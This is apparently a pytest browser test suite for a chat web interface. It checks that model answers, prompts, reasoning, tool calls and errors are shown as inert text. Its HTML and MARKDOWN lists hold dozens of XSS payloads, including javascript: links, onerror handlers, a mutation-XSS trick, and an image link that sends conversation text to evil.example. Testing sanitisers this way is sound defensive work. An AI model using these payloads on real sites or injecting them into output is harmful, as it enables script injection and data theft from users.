"""Answers, prompts and names that want to run something, load something or lead somewhere: they are shown as text."""

from __future__ import annotations

import pytest

from llamacpp_mqtt_deploy.core.deltas import Finished, Reasoning, TokenUsage, ToolCall
from llamacpp_mqtt_deploy.core.errors import EngineFailed
from llamacpp_mqtt_deploy.testing.scripted_engine import ScriptedEngine
from tests.page.browser import ChatPage

pytestmark = [pytest.mark.broker, pytest.mark.browser]

RUN = "document.documentElement.dataset.broken=1"
HTML = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><script href=data:,{RUN}></script><use href=//evil.example/x.svg#a></use></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<form action=//evil.example><button formaction=javascript:{RUN}>x</button></form>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{display:none}</style>",
    f"<a href=javascript:{RUN} target=_self>x</a>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<div id=prompt name=composer onclick={RUN} style='position:fixed;inset:0'>x</div>",
    f"<x onclick={RUN} onpointerrawupdate={RUN} tabindex=1 autofocus>x</x>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
]
MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java&#115;cript:{RUN})",
    f"[x](  javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](\x01javascript:{RUN})",
    f"<javascript:{RUN}>",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://evil.example/1)",
    "[x](/settings)",
    "[x](//evil.example/relative)",
    f"[x]: javascript:{RUN}\n\n[x]",
    f"![x](javascript:{RUN})",
    "![x](http://evil.example/secret.png?text=of-the-conversation)",
    f'![x](x "onerror={RUN}")',
    f'[x](http://evil.example/"onmouseover="{RUN})',
    f"```html\n<script>{RUN}</script>\n```",
    f'```"onmouseover="{RUN}\ncode\n```',
    f"`<img src=x onerror={RUN}>`",
    f"| <img src=x onerror={RUN}> |\n|---|\n| <script>{RUN}</script> |",
    f"- [ ] <img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    f"> # <svg/onload={RUN}>",
]
HOSTILE = [*HTML, *MARKDOWN]

ALLOWED = {
    "A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "FIGCAPTION", "FIGURE", "H3", "H4", "H5", "H6", "HR", "INPUT",
    "LI", "OL", "P", "PRE", "SPAN", "STRONG", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL",
}  # fmt: skip
ATTRIBUTES = {
    "aria-label", "checked", "class", "disabled", "href", "referrerpolicy", "rel", "role", "start", "tabindex", "target", "title", "type",
}  # fmt: skip

_LOOK = """
const inside = [...document.querySelectorAll('.prose *')];
return {
  broken: document.documentElement.dataset.broken ?? null,
  elements: [...new Set(inside.map((node) => node.tagName))],
  attributes: [...new Set(inside.flatMap((node) => node.getAttributeNames()))],
  links: [...document.querySelectorAll('.prose a')].map((link) => link.href),
  loaded: performance.getEntriesByType('resource').map(({name}) => name).filter((name) => !name.startsWith(location.origin)),
  shown: document.body.innerText,
};
"""


def look(page: ChatPage) -> str:
    """What is shown, after nothing that must not be there was found."""
    found = page.run(_LOOK)
    assert found["broken"] is None
    assert set(found["elements"]) <= ALLOWED
    assert set(found["attributes"]) <= ATTRIBUTES
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in found["links"]), found["links"]
    assert found["loaded"] == []
    return str(found["shown"])


@pytest.mark.parametrize("answers", [HTML, MARKDOWN], ids=["html", "markdown"])
def test_nothing_that_an_answer_says_is_run_loaded_or_followed(
    page: ChatPage, engine: ScriptedEngine, answers: list[str]
) -> None:
    for answer in answers:
        # In small pieces: what is half written may look like something else.
        engine.play(*[answer[at : at + 3] for at in range(0, len(answer), 3)])
        page.ask("Say it")
        page.ended()
        look(page)
    for link in page.all(".prose a"):
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"
    page.browser.refresh()
    page.connected()
    shown = look(page)
    if answers is HTML:
        assert "onerror" in shown, "what the model said can be read"
    assert [line for line in page.log() if "Content Security Policy" in line or "Trusted" in line] == []


def test_a_prompt_is_text_wherever_it_is_shown(page: ChatPage, engine: ScriptedEngine) -> None:
    for prompt in [
        *HTML[:8],
        *MARKDOWN[:2],
        "</title><script>alert(1)</script>",
        "</textarea><img src=x onerror=alert(1)>",
    ]:
        page.find("#new").click()
        engine.play("Well.")
        page.ask(prompt)
        page.ended()
        assert page.text(".question .text").strip() == prompt.strip()
        look(page)
    page.run("document.querySelector('#chats .remove').click()")
    assert page.run("return document.querySelectorAll('#remove-name *').length") == 0
    assert page.run("return document.querySelectorAll('img, script[src*=evil], iframe').length") == 1, (
        "the brand's icon"
    )


def test_thoughts_tools_and_errors_are_text(page: ChatPage, engine: ScriptedEngine) -> None:
    evil = f"<img src=x onerror={RUN}>"
    tokens = TokenUsage(prompt_tokens=1, completion_tokens=1)
    engine.play(Reasoning(evil), ToolCall(0, evil, evil, '{"a": "' + evil + '"}'), Finished("tool_calls", tokens))
    page.ask("Say it")
    page.ended()
    engine.play(EngineFailed(evil))
    page.ask("Again")
    page.ended()
    look(page)
    assert (
        page.run(
            "return document.querySelectorAll('.thinking .text *, .call pre *, .call code *, .problem p *').length"
        )
        == 0
    )


def test_what_is_made_to_be_slow_or_deep_does_not_stop_the_page(page: ChatPage, engine: ScriptedEngine) -> None:
    for answer in (
        ">" * 20_000 + "deep",
        "- " * 4_000 + "deep",
        "*a_ " * 6_000,
        "[" * 20_000,
        "|a" * 5_000 + "\n" + "|-" * 5_000 + "\n",
        "x" * 400_000,
        "\u202e\u0000\ufeff" * 100,
    ):
        engine.play(answer)
        page.ask("Say it")
        page.ended()
        look(page)
    page.ask("Still there?")
    page.ended()
    assert page.answer() == "Still there?"


def test_a_storage_that_was_tampered_with_does_not_stop_the_page(page: ChatPage) -> None:
    for chats in ("not json", "7", "[null, 7, {}]", '[{"id": "x", "title": "<b>"}]'):
        page.run("localStorage.setItem('lmd.chats', arguments[0])", chats)
        page.run("localStorage.setItem('lmd.chat.x', arguments[0])", '[{"role": "user"}, 7, {"role": "assistant"}]')
        page.browser.refresh()
        page.connected()
        if page.all("#chats .open"):
            page.find("#chats .open").click()
        page.find("#new").click()
        page.ask("Hello")
        page.ended()
        assert page.answer() == "Hello"
